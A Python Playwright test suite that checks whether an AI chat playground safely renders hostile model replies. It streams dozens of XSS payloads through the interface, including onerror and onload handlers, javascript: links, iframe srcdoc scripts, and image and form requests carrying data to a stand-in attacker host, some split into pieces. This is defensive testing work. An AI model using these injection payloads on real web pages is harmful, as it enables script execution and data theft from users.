"""What a model says, shown in a real browser: nothing of it runs, and nothing is asked for elsewhere."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from tests.conftest import App, launch, wait_for
from tests.playing_server import Handler, Script, playing, word
from tests.security.detector import Detector
from tests.security.payloads import GROUPS, OUTSIDE, PAYLOADS, STRONGEST, Payload
from tests.ui.talking import begin, box, choose, put, rows, send, stored

pytestmark = pytest.mark.browser
SAID = "#pg-items .assistant .body"
PLAIN = "http://plain.example"
MESSAGES = "#pg-items article .body"


@pytest.mark.parametrize(
    ("markup", "told"),
    [
        ("<img src=x: onerror=\"window.__pwned='control'\">", "ran: control"),
        ("<details open ontoggle=alert(1)>x</details>", "called: alert 1"),
        (f"<img src={OUTSIDE}/?d=secret>", f"asked: {OUTSIDE}/?d=secret"),
        (f"<link rel=stylesheet href={OUTSIDE}/x.css>", f"asked: {OUTSIDE}/x.css"),
        (f"<iframe src={OUTSIDE}/frame></iframe>", f"asked: {OUTSIDE}/frame"),
        ("<iframe srcdoc='<script>parent.__pwned=7</script>'></iframe>", "ran: 7"),
        ("<a id=go href='javascript:__pwned=8'>x</a>", "ran: 8"),
        (f"<a id=go href='{OUTSIDE}/here'>x</a>", f"asked: {OUTSIDE}/here"),
        (f"<form action={OUTSIDE}/f><button id=go>x</button></form>", f"submitted: {OUTSIDE}/f"),
        ("<button id=go onclick='__pwned=9'>x</button>", "ran: 9"),
    ],
)
def test_the_detector_sees_what_it_is_for(detector: Detector, markup: str, told: str) -> None:
    """In a page without a policy of ours: else the tests below could not fail."""
    page = detector.page(PLAIN)
    page.route(f"{PLAIN}/", lambda route: route.fulfill(body="<div id=box></div>", content_type="text/html"))
    page.goto(f"{PLAIN}/")
    page.evaluate("(markup) => { document.getElementById('box').innerHTML = markup; }", markup)
    detector.touch(page, "#box")
    wait_for(lambda: _heard(page) and told in detector.told, what=f"{told} in {detector.told}")
    with pytest.raises(AssertionError):
        detector.check(page, "#box")


def test_the_detector_sees_what_would_run_in_the_app(app: App, detector: Detector) -> None:
    """Where the policy holds requests back, what is there is told nevertheless."""
    page = detector.page(app.url)
    begin(page, app, "hello")
    detector.check(page, SAID)
    for markup in ("<img src=x onerror=__pwned=1>", f"<a href='{OUTSIDE}'>x</a>", "<a href='data:text/html,x'>x</a>"):
        page.evaluate("([where, html]) => { document.querySelector(where).innerHTML = html; }", [SAID, markup])
        with pytest.raises(AssertionError, match=r"ran: 1|onerror|evil\.example|data:text/html"):
            detector.check(page, SAID)
    page.evaluate(f"fetch('{OUTSIDE}/fetched').catch(() => 0)")
    wait_for(lambda: _heard(page) and detector.policy, what="a violation of the policy")


def test_no_payload_that_a_model_says_runs_or_fetches(app: App, detector: Detector) -> None:
    """All of them, as a reply and as a message, fifteen to a conversation; each link and button is pressed."""
    assert len(PAYLOADS) >= 90
    assert len({one.text for one in PAYLOADS}) == len(PAYLOADS)
    page, links = detector.page(app.url), 0
    page.goto(app.url)
    expect(page.get_by_text("What would you like to talk about?")).to_be_visible()
    page.evaluate("window.same = true")
    for first in range(0, len(PAYLOADS), 15):
        some = PAYLOADS[first : first + 15]
        with stored(app) as history:
            talk_id, _ = put(history, *_both(some), title=some[0].name)
        page.evaluate("(id) => playground.open(id)", talk_id)
        expect(page.locator("#pg-items article")).to_have_count(2 * len(some))
        expect(page.locator(SAID).last).to_contain_text(f"end of {some[-1].name}")
        detector.check(page, SAID)
        links += detector.touch(page, MESSAGES)
        _settle(page)
        detector.check(page, SAID)
        assert page.evaluate("window.same === true"), "the page was left"
        assert page.url == f"{app.url}/?c={talk_id}"
    assert links > 15, "there were links to press"
    wait_for(lambda: _heard(page) and len(set(detector.followed)) > 10, what="links that were followed")
    assert not detector.policy
    assert all(address.startswith(("http://", "https://")) for address in detector.followed)


def test_payloads_come_as_replies_of_a_running_model(app: App, detector: Detector) -> None:
    """Through the engine, the stream and the database: the reply is what was sent, word by word."""
    page = detector.page(app.url)
    begin(page, app, "hello")
    for first in range(0, len(GROUPS), 4):
        groups = GROUPS[first : first + 4]
        texts = [one.text for one in PAYLOADS if one.name.rpartition("-")[0] in groups]
        text = "\n\n".join(["x", *texts, f"end of {groups[-1]}"]).replace("\x00", "")  # No text box holds that one.
        send(page, text)
        expect(page.locator(SAID).last).to_contain_text(f"end of {groups[-1]}")
        expect(page.get_by_role("button", name="Stop")).to_be_hidden()
        detector.hover(page, "#pg-items")
        detector.check(page, SAID)
        ((said,),) = rows(app, "SELECT content FROM messages WHERE role = 'assistant' ORDER BY seq DESC LIMIT 1")
        assert said == f"You said: {text}"
    assert not detector.policy


def test_tokens_the_tree_and_the_record_of_a_hostile_reply(app: App, detector: Detector) -> None:
    """The drawer beside the conversation, and the menu of each token's alternatives."""
    page = detector.page(app.url)
    begin(page, app, "hello")
    text = " ".join(one.replace(" ", "") for one in STRONGEST)
    send(page, text)
    expect(page.locator(SAID).last).to_contain_text("constructor")
    expect(page.get_by_role("button", name="Stop")).to_be_hidden()
    choose(page, page.get_by_role("article").last.get_by_role("button", name="More"), "Tokens")
    page.get_by_role("button", name="Compute the tokens").click()
    tokens = page.locator("#pg-info .tk[data-text]")
    expect(tokens.filter(has_text="<svg").first).to_be_visible()
    for one in tokens.all()[-4:]:
        one.click()
        expect(page.get_by_role("menu")).to_be_visible()
        detector.check(page, SAID)
        page.keyboard.press("Escape")
    for tab in ("Tree", "Record"):
        page.locator("#pg-info").get_by_role("tab", name=tab).click()
        expect(page.locator("#pg-info-body").get_by_text("You said" if tab == "Tree" else "JSON").first).to_be_visible()
        detector.hover(page, "#pg-info")
        detector.check(page, SAID)
    assert not detector.policy


# ---- half of it first ------------------------------------------------------------------------------------------------
CUT = (
    ("<img src", "=x one", "rror=__pwned=1>"),
    ("<scr", "ipt>__pwned=1</scr", "ipt>"),
    ("[click](javasc", "ript:__pwned=1", ")"),
    (f"![x]({OUTSIDE}/?d=sec", "ret", ")"),
    ("[x][r]\n\n[r", "]: java", "script:__pwned=1"),
    ("```html\n<script>__pwned=1</scr", "ipt>\n``", "`\n<img src=x onerror=__pwned=1>"),
    ("$\\text{<img src=x ", "onerror=__pwned=1>", "}$"),
    ("`<svg onload=", "__pwned=1>", "` <svg onload=__pwned=1>"),
    ("<think><img src=x onerror", "=__pwned=1></think>", "<iframe srcdoc='<script>parent.__pwned=1</script>'>"),
    ("&lt", ";img src=x onerror=__pwned=1&", "gt;"),
    ("<a href='jav", "ascript:__pwned=1'>cl", "ick</a><!--"),
    ("| a |\n|--", "-|\n| <img src=x onerr", "or=__pwned=1> |"),
)


@pytest.fixture
def server() -> Iterator[Script]:
    with playing() as made:
        yield made


def test_a_payload_that_comes_in_pieces(
    server: Script, detector: Detector, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """Each piece is drawn before the next one comes."""

    def answer(handler: Handler) -> None:
        handler.send_response(200)
        handler.send_header("Content-Type", "text/event-stream")
        handler.send_header("Connection", "close")
        handler.end_headers()
        for number, pieces in enumerate(CUT):
            for piece in (*pieces, f"\n\nafter {number}\n\n"):
                _say(handler, piece)
                time.sleep(0.11)  # The page is told ten times a second.
        _say(handler, "the end", "stop")

    server.chat(answer)
    remote = ("--engine", "remote", "--remote-url", server.url, "--model", "tiny")
    app = launch(tmp_path_factory.mktemp("pieces"), *remote)
    try:
        page = detector.page(app.url)
        page.goto(app.url)
        expect(page.get_by_text("What would you like to talk about?")).to_be_visible()
        box(page).fill("begin")
        box(page).press("Enter")
        for number in range(len(CUT)):
            expect(page.locator(SAID)).to_contain_text(f"after {number}")
            detector.touch(page, SAID)
            detector.check(page, SAID)
        expect(page.locator(SAID)).to_contain_text("the end")
        detector.touch(page, SAID)
        detector.check(page, SAID)
    finally:
        app.kill()


def _both(some: list[Payload]) -> list[str]:
    return [text for one in some for text in (one.text, f"{one.text}\n\nend of {one.name}")]


def _heard(page: Page) -> bool:
    """What the browser tells arrives while Playwright waits."""
    page.wait_for_timeout(20)
    return True


def _settle(page: Page) -> None:
    """Until what was begun by a press has been seen: frames were drawn, and the page has answered once more."""
    page.evaluate("() => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 50)))")


def _say(handler: Handler, text: str, reason: str | None = None) -> None:
    handler.wfile.write(f"data: {json.dumps(word(text, reason))}\n\n".encode())
    handler.wfile.flush()
